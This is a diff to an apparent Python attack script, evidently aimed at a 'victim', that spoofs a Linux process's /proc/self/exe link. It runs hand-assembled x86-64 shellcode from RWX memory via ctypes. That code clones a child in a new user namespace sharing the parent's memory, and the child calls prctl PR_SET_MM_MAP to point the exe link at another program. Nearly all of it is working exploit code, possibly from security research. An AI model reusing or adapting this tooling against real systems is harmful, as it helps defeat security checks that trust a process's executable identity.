@@ -243,11 +243,39 @@ def attacks(python, victim, tries, seconds):
 REPLACE = bytes.fromhex("4989f84889d1 4887fe 57 f3a4 5f 4889d6 41ba03000000 b819000000 0f05 c3")
 
 
+# A function of (map, size) that clones a child in the same memory (CLONE_VM | CLONE_VFORK) and in a user namespace of its
+# own (CLONE_NEWUSER). The child calls prctl(PR_SET_MM, PR_SET_MM_MAP, map, size, 0) and exits with its errno.
+CLONE_AND_CLAIM = bytes.fromhex(
+    "4989f9 4989f0 bf11410010 31f6 31d2 4531d2 b838000000 0f05 85c0 7401 c3"
+    "bf23000000 be0e000000 4c89ca 4d89c2 4531c0 b89d000000 0f05 89c7 f7df b83c000000 0f05")
+
+
 def claim_to_run(program):
     """Points /proc/self/exe at another program with PR_SET_MM_MAP, which its own user namespace permits."""
-    own = os.readlink("/proc/self/exe")
+    memory_map = map_of_another(program)
+    assert libc.prctl(35, 14, memory_map, ctypes.c_ulong(len(memory_map)), 0) == 0
+
+
+def claim_by_child(program):
+    """Has a child in a user namespace of its own point the exe link of the memory that both share at another program.
+    Returns the errno of its clone or its prctl: 0 if it succeeded."""
+    memory_map = map_of_another(program)
+    machine_code = anonymous(4096, 7)
+    ctypes.memmove(machine_code, CLONE_AND_CLAIM, len(CLONE_AND_CLAIM))
+    clone_and_claim = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_size_t)(machine_code)
+    child = clone_and_claim(memory_map, len(memory_map))
+    return -child if child < 0 else os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
+
+
+def anonymous(size, access):
     libc.mmap.restype = ctypes.c_void_p
-    anonymous = lambda size, access: libc.mmap(None, ctypes.c_size_t(size), access, 0x22, -1, ctypes.c_size_t(0))
+    return libc.mmap(None, ctypes.c_size_t(size), access, 0x22, -1, ctypes.c_size_t(0))
+
+
+def map_of_another(program):
+    """What PR_SET_MM_MAP takes to point the exe link at another program. The pages of the own program become anonymous,
+    for the kernel refuses to replace a program that is still mapped."""
+    own = os.readlink("/proc/self/exe")
     machine_code = anonymous(4096, 7)
     ctypes.memmove(machine_code, REPLACE, len(REPLACE))
     replace = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_size_t)(machine_code)
@@ -262,5 +290,4 @@ def claim_to_run(program):
     libc.sbrk.restype = ctypes.c_void_p
     heap_end, file = libc.sbrk(0), os.open(program, os.O_RDONLY)
     addresses = [*code, *data_and_heap, heap_end, stack, arguments, arguments_end, variables, variables_end]
-    memory_map = struct.pack("12QII", *addresses, 0, 0, file)
-    assert libc.prctl(35, 14, memory_map, ctypes.c_ulong(len(memory_map)), 0) == 0
+    return struct.pack("12QII", *addresses, 0, 0, file)
